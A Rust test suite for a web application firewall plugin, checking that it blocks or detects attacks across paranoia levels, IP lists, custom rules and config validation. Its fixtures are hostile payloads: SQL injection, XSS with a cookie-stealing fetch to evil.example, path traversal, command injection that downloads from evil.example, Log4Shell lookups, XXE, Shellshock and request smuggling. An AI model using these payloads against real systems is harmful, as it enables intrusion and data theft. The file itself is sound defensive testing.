//! The plugin's behaviour against the SDK's fake host: modes, IP lists, custom rules, split
//! payloads, what is logged and put in the context, and config validation.

use serde_json::json;
use waf::Waf;
use wasmgate_plugin_sdk::testing::{self, FakeContext, FakeRequest};
use wasmgate_plugin_sdk::{Action, BodyAccess, Plugin};

fn waf(config: serde_json::Value) -> Waf {
    testing::init::<Waf>(config).expect("valid config")
}

fn run(plugin: &Waf, request: FakeRequest) -> (Action, FakeContext) {
    run_in(plugin, request, FakeContext::new())
}

fn run_in(
    plugin: &Waf,
    mut request: FakeRequest,
    mut context: FakeContext,
) -> (Action, FakeContext) {
    let action = testing::method_request(plugin, &mut request, &mut context);
    (action, context)
}

fn status(action: &Action) -> Option<u16> {
    action.response().map(|r| r.status)
}

fn config_error(config: serde_json::Value) -> String {
    match testing::init::<Waf>(config) {
        Ok(_) => panic!("config accepted"),
        Err(err) => err.to_string(),
    }
}

#[test]
fn blocks_with_a_waf_filtered_403_that_does_not_echo_the_payload() {
    let plugin = waf(json!({}));
    let (action, context) = run(
        &plugin,
        FakeRequest::new("GET", "/items?id=1%27%20or%20%271%27%3D%271"),
    );
    let response = action.response().expect("blocked");
    assert_eq!(response.status, 403);
    let body: serde_json::Value = serde_json::from_slice(&response.body).unwrap();
    assert_eq!(body["type"], "WAF_FILTERED");
    assert_eq!(body["requestId"], FakeContext::REQUEST_ID);
    assert!(!response.body_str().unwrap().contains("or"), "{response:?}");
    assert_eq!(context.get("waf.matched"), Some("942100"));
    assert_eq!(context.get("waf.action"), Some("blocked"));
}

#[test]
fn logs_rule_ids_and_locations_but_never_values() {
    let plugin = waf(json!({}));
    testing::take_log_lines();
    let _ = run(
        &plugin,
        FakeRequest::new("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    );
    let lines = testing::take_log_lines();
    let line = lines
        .iter()
        .find(|l| l.message.contains("blocked"))
        .expect("logged");
    assert!(line.field("rules").unwrap().contains("941110"), "{line:?}");
    assert!(
        line.field("locations").unwrap().contains("query:q"),
        "{line:?}"
    );
    assert!(!format!("{line:?}").contains("alert"), "{line:?}");
}

#[test]
fn passes_a_clean_request_untouched() {
    let plugin = waf(json!({}));
    let request = FakeRequest::new("POST", "/orders?expand=items")
        .header("content-type", "application/json")
        .body(r#"{"note": "O'Brien's order, leave at door"}"#);
    let (action, context) = run(&plugin, request);
    assert_eq!(action, Action::Continue);
    assert_eq!(context.get("waf.matched"), None);
}

#[test]
fn detect_mode_lets_attacks_through_and_reports_them_in_the_context() {
    let plugin = waf(json!({ "mode": "detect" }));
    let (action, context) = run(
        &plugin,
        FakeRequest::new("GET", "/files?name=..%2F..%2Fetc%2Fpasswd"),
    );
    assert_eq!(action, Action::Continue);
    let matched = context.get("waf.matched").unwrap();
    assert!(
        matched.contains("930100") && matched.contains("930120"),
        "{matched}"
    );
    assert_eq!(context.get("waf.score"), Some("10"));
    assert_eq!(context.get("waf.action"), Some("detected"));
}

#[test]
fn anomaly_mode_blocks_only_when_the_score_reaches_the_threshold() {
    let plugin = waf(json!({ "anomaly_threshold": 10 }));
    let one_rule = FakeRequest::new("GET", "/?q=%3Cscript%3E");
    let (action, context) = run(&plugin, one_rule);
    assert_eq!(action, Action::Continue);
    assert_eq!(context.get("waf.score"), Some("5"));
    let two_rules = FakeRequest::new("GET", "/?q=%3Cscript%3E&file=../../etc/passwd");
    assert_eq!(status(&run(&plugin, two_rules).0), Some(403));
}

#[test]
fn block_mode_blocks_on_any_match() {
    let plugin = waf(json!({ "mode": "block", "paranoia": 2 }));
    // 941190 is a paranoia-2 rule: any match blocks in block mode.
    let (action, context) = run(&plugin, FakeRequest::new("GET", "/?q=setTimeout(x)"));
    assert_eq!(status(&action), Some(403));
    assert_eq!(context.get("waf.matched"), Some("941190"));
}

#[test]
fn paranoia_levels_trade_false_positives_for_coverage() {
    let request = || FakeRequest::new("GET", "/?q=select%20name%20from%20users");
    assert_eq!(run(&waf(json!({})), request()).0, Action::Continue);
    let (_, context) = run(&waf(json!({ "paranoia": 3, "mode": "detect" })), request());
    assert_eq!(context.get("waf.matched"), Some("942300"));
}

/// The rule ids a default-config plugin matched on `?q=<value>`, and whether it blocked.
fn verdict_on_query(paranoia: u8, value: &str) -> (bool, String) {
    let plugin = waf(json!({ "paranoia": paranoia }));
    let encoded: String = value.bytes().map(|b| format!("%{b:02X}")).collect();
    let (action, context) = run(&plugin, FakeRequest::new("GET", &format!("/?q={encoded}")));
    let matched = context.get("waf.matched").unwrap_or_default().to_owned();
    (status(&action) == Some(403), matched)
}

#[test]
fn blocks_sql_probes_that_have_no_quote_to_close() {
    for (payload, rule) in [
        ("1 and sleep(7)", "942150"),
        ("1 waitfor delay '00:00:03'", "942150"),
        ("1;print @@version", "942160"),
        ("1 into outfile '/tmp/out.txt'", "942180"),
        ("/*!50000select*/ user()", "942170"),
        ("1 uNiOn/**/aLl/**/SeLeCt null,null", "942190"),
    ] {
        let (blocked, matched) = verdict_on_query(1, payload);
        assert!(blocked && matched.contains(rule), "{payload}: {matched}");
    }
}

#[test]
fn blocks_commands_hidden_by_quoting_variables_and_globs() {
    for (payload, rule) in [
        (";c''at /etc/passwd", "932100"),
        (";who$@ami", "932105"),
        (";${PATH:0:1}bin${PATH:0:1}id", "932125"),
        ("; /???/??t /etc/group", "932140"),
        ("; python3 -c 'import os'", "932150"),
        ("& certutil -urlcache -f http://evil.example/x x", "932160"),
    ] {
        let (blocked, matched) = verdict_on_query(1, payload);
        assert!(blocked && matched.contains(rule), "{payload}: {matched}");
    }
}

#[test]
fn blocks_a_log4shell_lookup_and_an_xml_external_entity_at_paranoia_1() {
    for (payload, rule) in [
        ("${jndi:ldap://evil.example/a}", "932180"),
        ("${${lower:j}ndi:${::-l}dap://evil.example/a}", "932180"),
        ("<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "930140"),
    ] {
        let (blocked, matched) = verdict_on_query(1, payload);
        assert!(blocked && matched.contains(rule), "{payload}: {matched}");
    }
}

#[test]
fn paranoia_2_blocks_probes_that_paranoia_1_lets_through() {
    for (payload, rule) in [
        ("@@version", "942240"),
        (
            "1 rlike (select (case when (1=1) then 1 else 0x28 end))",
            "942250",
        ),
        ("select * from users where 1=1", "942260"),
        ("chr(65)||chr(66)", "942270"),
        ("-1 uni/**/on sel/**/ect 1,2", "942290"),
        ("1 xor 1", "942296"),
        ("{\"$ne\":null}", "942380"),
        ("/etc/nginx/nginx.conf", "930130"),
        ("c:\\xampp\\apache\\conf\\httpd.conf", "930130"),
        ("http://2130706433/", "931110"),
        ("; docker ps", "932107"),
        ("system('id')", "932170"),
        ("{{7*7}}", "932190"),
    ] {
        assert!(!verdict_on_query(1, payload).0, "{payload} at paranoia 1");
        let (blocked, matched) = verdict_on_query(2, payload);
        assert!(blocked && matched.contains(rule), "{payload}: {matched}");
    }
}

#[test]
fn paranoia_2_passes_a_system_path_or_config_file_mentioned_in_a_sentence() {
    for prose in [
        "The file is in /var/www/html on the server",
        "win.ini is a legacy config file",
        "look at /etc/nginx/nginx.conf for the server block",
    ] {
        assert_eq!(
            verdict_on_query(2, prose),
            (false, String::new()),
            "{prose}"
        );
    }
}

#[test]
fn passes_a_bare_path_or_api_mentioned_in_a_sentence_at_paranoia_1_but_not_at_2() {
    for prose in [
        "add the host to /etc/hosts and restart",
        "Cat /etc/hosts - what is this file for?",
        "you can read document.cookie from JavaScript unless it is HttpOnly",
    ] {
        assert_eq!(
            verdict_on_query(1, prose),
            (false, String::new()),
            "{prose}"
        );
        assert!(verdict_on_query(2, prose).0, "{prose}");
    }
}

#[test]
fn passes_a_plain_command_in_backticks_in_a_sentence_at_paranoia_1_but_not_at_2() {
    for prose in [
        "type `id` to see your groups",
        "run `ls -la` in the folder to see hidden files",
        "Run `cat file.txt | grep foo` in your terminal",
        "`hostname`. On success the promise resolves",
    ] {
        assert_eq!(
            verdict_on_query(1, prose),
            (false, String::new()),
            "{prose}"
        );
        assert!(verdict_on_query(2, prose).0, "{prose}");
    }
    for attack in [
        "x`id`",
        "8.8.8.8 `id`",
        "a `id` b c d",
        "please run `cat /etc/passwd` for me now",
        "please run `curl http://evil.example/x` for me now",
        "please run `id`; then go home now",
        "please run `id` and `whoami` for me now",
    ] {
        assert!(verdict_on_query(1, attack).0, "{attack}");
    }
}

#[test]
fn passes_commands_and_calls_that_read_as_prose_at_paranoia_1() {
    for prose in [
        "Python -c flag usage",
        "perl -e one-liners tutorial",
        "Net user count grew 5% this quarter",
        "Sleep(8 hours) is the best medicine",
        "benchmark(ing) the new laptop",
        "the <script> tag loads JavaScript",
        "logs are under /var/log/nginx",
        "\"I'll be back\" -- T. 800",
    ] {
        assert_eq!(
            verdict_on_query(1, prose),
            (false, String::new()),
            "{prose}"
        );
    }
    for (attack, rule) in [
        ("python -c 'import os'", "932150"),
        ("; perl -e print(1)", "932150"),
        ("& net user hacker P@ss /add", "932120"),
        ("| net user", "932120"),
        ("1 and sleep(5) is it", "942107"),
        ("the <script>alert(1) tag", "941110"),
        ("the <script> tag </script>", "941110"),
        ("/var/log/nginx/access.log", "930120"),
        ("x' -- T. 800", "942105"),
    ] {
        let (blocked, matched) = verdict_on_query(1, attack);
        assert!(blocked && matched.contains(rule), "{attack}: {matched}");
    }
}

/// The core payloads of each class, each to be wrapped in prose.
const CORE_PAYLOADS: &[&str] = &[
    // xss
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "<script>fetch(`//evil.example/`+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    // traversal
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "php://filter/resource=index.php",
    // command
    "`id`",
    "`wget evil.example/x -O /tmp/x`",
    "$(cat /etc/passwd)",
    "; cat /etc/passwd",
    "; rm database",
    "| bash payload",
    // sqli
    "1' or '1'='1",
    "1 union select null,null",
];

#[test]
fn blocks_core_payloads_wrapped_in_prose_at_paranoia_1() {
    for payload in CORE_PAYLOADS {
        for wrapped in [
            format!("a {payload} b"),
            format!("hi there friend {payload}"),
            format!("a b c {payload}"),
            format!("{payload} a b"),
            format!("see the docs here {payload} and tell me what you think"),
        ] {
            // The two exemptions, both of a real sentence: a bare path in a sentence of mostly
            // words is a mention (see `passes_a_bare_path_or_api_mentioned_in_a_sentence_…`),
            // and a plain command in backticks standing in one is Markdown inline code (see
            // `passes_a_plain_command_in_backticks_in_a_sentence_…`).
            if matches!(*payload, "/etc/passwd" | "`id`") && wrapped.starts_with("see the docs") {
                continue;
            }
            let (blocked, matched) = verdict_on_query(1, &wrapped);
            assert!(blocked, "{wrapped:?} passed ({matched})");
        }
    }
}

#[test]
fn blocks_a_traversal_wrapped_in_prose_with_a_nul_in_json() {
    let plugin = waf(json!({}));
    let body = json!({ "comment": "../../../../etc/passwd\u{0} a b" }).to_string();
    let request = FakeRequest::new("POST", "/comments")
        .header("content-type", "application/json")
        .body(body);
    assert_eq!(status(&run(&plugin, request).0), Some(403));
}

#[test]
fn blocks_sql_login_bypasses_bare_shells_and_piped_commands_at_paranoia_1() {
    for payload in [
        "admin' -- ab",
        "admin'--x",
        "admin'#a",
        "; rm database",
        "; sh payload",
        "| bash payload",
        "&& python payload",
        "a |id b",
    ] {
        let (blocked, matched) = verdict_on_query(1, payload);
        assert!(blocked, "{payload:?} passed ({matched})");
    }
}

#[test]
fn passes_quotations_and_quoted_options_that_read_as_sql_comments() {
    for prose in [
        "\"Talk is cheap. Show me the code.\" -- Linus Torvalds",
        "pass the \"--verbose\" option",
        "what does 'or 1=1' mean in a sql injection lesson",
    ] {
        assert_eq!(
            verdict_on_query(1, prose),
            (false, String::new()),
            "{prose}"
        );
    }
}

#[test]
fn catches_a_payload_split_across_parameters() {
    let plugin = waf(json!({}));
    let request = FakeRequest::new("GET", "/?a=1%20union%2F*&b=*%2Fselect%201,2");
    let (action, context) = run(&plugin, request);
    assert_eq!(status(&action), Some(403), "{context:?}");
    assert!(context.get("waf.matched").unwrap().contains("942103"));
}

#[test]
fn inspects_json_keys_headers_and_cookies() {
    let plugin = waf(json!({}));
    let key = FakeRequest::new("POST", "/")
        .header("content-type", "application/json")
        .body(r#"{"<script>alert(1)</script>": 1}"#);
    assert_eq!(status(&run(&plugin, key).0), Some(403));
    let agent = FakeRequest::new("GET", "/").header("user-agent", "() { :; }; /bin/bash -c id");
    assert_eq!(status(&run(&plugin, agent).0), Some(403));
    let cookie =
        FakeRequest::new("GET", "/").header("cookie", "theme=dark; id=1%27%20or%201%3D1--");
    assert_eq!(status(&run(&plugin, cookie).0), Some(403));
}

#[test]
fn refuses_methods_outside_the_allowed_list_and_smuggling_markers() {
    let plugin = waf(json!({}));
    assert_eq!(
        status(&run(&plugin, FakeRequest::new("TRACE", "/")).0),
        Some(403)
    );
    let smuggling = FakeRequest::new("POST", "/")
        .header("content-length", "4")
        .header("transfer-encoding", "chunked");
    let (action, context) = run(&plugin, smuggling);
    assert_eq!(status(&action), Some(403));
    assert_eq!(context.get("waf.matched"), Some("921110"));
    let obfuscated = FakeRequest::new("POST", "/").header("transfer-encoding", "xchunked");
    assert_eq!(status(&run(&plugin, obfuscated).0), Some(403));
    let custom = waf(json!({ "allowed_methods": ["GET"] }));
    assert_eq!(
        status(&run(&custom, FakeRequest::new("DELETE", "/")).0),
        Some(403)
    );
}

#[test]
fn deny_and_allow_lists_match_cidr_ranges() {
    let plugin = waf(json!({ "ip": { "deny": ["203.0.113.0/24", "2001:db8:bad::/48"] } }));
    let from = |ip: &str| FakeContext::new().with("gateway.client-ip", ip);
    let (action, context) = run_in(&plugin, FakeRequest::new("GET", "/"), from("203.0.113.9"));
    assert_eq!(status(&action), Some(403));
    assert_eq!(context.get("waf.matched"), Some("ip-deny"));
    assert_eq!(
        status(
            &run_in(
                &plugin,
                FakeRequest::new("GET", "/"),
                from("2001:db8:bad::1")
            )
            .0
        ),
        Some(403)
    );
    assert_eq!(
        run_in(&plugin, FakeRequest::new("GET", "/"), from("198.51.100.1")).0,
        Action::Continue
    );

    let allow = waf(json!({ "ip": { "allow": ["10.0.0.0/8"] } }));
    assert_eq!(
        run_in(&allow, FakeRequest::new("GET", "/"), from("10.1.2.3")).0,
        Action::Continue
    );
    assert_eq!(
        status(&run_in(&allow, FakeRequest::new("GET", "/"), from("192.0.2.1")).0),
        Some(403)
    );
}

#[test]
fn believes_x_forwarded_for_only_from_trusted_proxies() {
    let plugin =
        waf(json!({ "ip": { "deny": ["203.0.113.0/24"], "trusted_proxies": ["10.0.0.0/8"] } }));
    let request =
        || FakeRequest::new("GET", "/").header("x-forwarded-for", "203.0.113.5, 10.0.0.7");
    let via_proxy = FakeContext::new().with("gateway.client-ip", "10.0.0.1");
    assert_eq!(status(&run_in(&plugin, request(), via_proxy).0), Some(403));
    let direct = FakeContext::new().with("gateway.client-ip", "198.51.100.1");
    assert_eq!(run_in(&plugin, request(), direct).0, Action::Continue);
}

#[test]
fn custom_rules_block_log_or_score() {
    let plugin = waf(json!({
        "rules": [
            { "id": "no-debug", "target": "header:x-debug", "operator": "equals", "pattern": "1" },
            { "id": "big-body", "target": "body", "operator": "size_greater_than", "pattern": "10", "action": "log" },
            { "id": "old-client", "target": "header:user-agent", "operator": "regex",
              "pattern": "^legacy/[0-4]\\.", "action": "score", "score": 3 },
            { "id": "admin-path", "target": "path", "operator": "starts_with", "pattern": "/admin",
              "action": "score", "score": 3 },
        ]
    }));
    let debug = FakeRequest::new("GET", "/").header("x-debug", "1");
    assert_eq!(status(&run(&plugin, debug).0), Some(403));
    let big = FakeRequest::new("POST", "/").body("0123456789abc");
    let (action, context) = run(&plugin, big);
    assert_eq!(action, Action::Continue);
    assert_eq!(context.get("waf.matched"), Some("big-body"));
    let one = FakeRequest::new("GET", "/").header("user-agent", "legacy/2.1");
    assert_eq!(run(&plugin, one).0, Action::Continue);
    let both = FakeRequest::new("GET", "/admin/users").header("user-agent", "legacy/2.1");
    let (action, context) = run(&plugin, both);
    assert_eq!(status(&action), Some(403));
    assert_eq!(context.get("waf.score"), Some("6"));
}

#[test]
fn disabled_rules_and_classes_are_not_checked() {
    let request = || FakeRequest::new("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E");
    let off = waf(json!({ "disabled_rules": ["941110", "941160"] }));
    assert_eq!(run(&off, request()).0, Action::Continue);
    let no_xss = waf(json!({ "classes": { "xss": false } }));
    assert_eq!(run(&no_xss, request()).0, Action::Continue);
}

#[test]
fn declares_body_access_only_when_bodies_are_inspected() {
    assert_eq!(waf(json!({})).body_access(), BodyAccess::REQUEST);
    assert_eq!(
        waf(json!({ "inspect": { "body": false } })).body_access(),
        BodyAccess::NONE
    );
    let custom = json!({ "inspect": { "body": false },
        "rules": [{ "id": "r", "target": "body", "operator": "contains", "pattern": "x" }] });
    assert_eq!(waf(custom).body_access(), BodyAccess::REQUEST);
}

#[test]
fn rejects_invalid_config_naming_the_key() {
    let cases = [
        (json!({ "paranoia": 5 }), "`paranoia`"),
        (
            json!({ "mode": "block", "anomaly_threshold": 3 }),
            "`anomaly_threshold`",
        ),
        (json!({ "ip": { "deny": ["10.0.0.0/40"] } }), "`ip.deny[0]`"),
        (
            json!({ "ip": { "trusted_proxies": ["proxy.local"] } }),
            "`ip.trusted_proxies[0]`",
        ),
        (json!({ "disabled_rules": ["999999"] }), "`disabled_rules`"),
        (
            json!({ "inspect": { "headers": "some" } }),
            "`inspect.headers`",
        ),
        (json!({ "allowed_methods": [] }), "`allowed_methods`"),
        (
            json!({ "rules": [{ "id": "r", "target": "nowhere", "operator": "contains", "pattern": "x" }] }),
            "`rules[0].target`",
        ),
        (
            json!({ "rules": [{ "id": "r", "target": "path", "operator": "regex", "pattern": "(" }] }),
            "`rules[0].pattern`",
        ),
        (
            json!({ "rules": [{ "id": "r", "target": "body", "operator": "size_greater_than", "pattern": "big" }] }),
            "`rules[0].pattern`",
        ),
        (
            json!({ "rules": [
            { "id": "r", "target": "path", "operator": "contains", "pattern": "x" },
            { "id": "r", "target": "path", "operator": "contains", "pattern": "y" }] }),
            "`rules[1].id`",
        ),
        (
            json!({ "rules": [{ "id": "r", "target": "path", "operator": "contains", "pattern": "x", "score": 2 }] }),
            "`rules[0].score`",
        ),
        (json!({ "mode": "panic" }), "mode"),
        (json!({ "paranoya": 1 }), "paranoya"),
    ];
    for (config, key) in cases {
        let message = config_error(config.clone());
        assert!(message.contains(key), "{config}: {message}");
    }
}

#[test]
fn finds_an_injection_deep_in_a_raw_body() {
    let plugin = waf(json!({}));
    let mut text = "a harmless line of text\n".repeat(2000);
    text.push_str("name=x' or '1'='1\n");
    let request = FakeRequest::new("POST", "/upload")
        .header("content-type", "text/plain")
        .body(text);
    let (action, context) = run(&plugin, request);
    assert_eq!(status(&action), Some(403));
    assert_eq!(context.get("waf.matched"), Some("942100"));
}
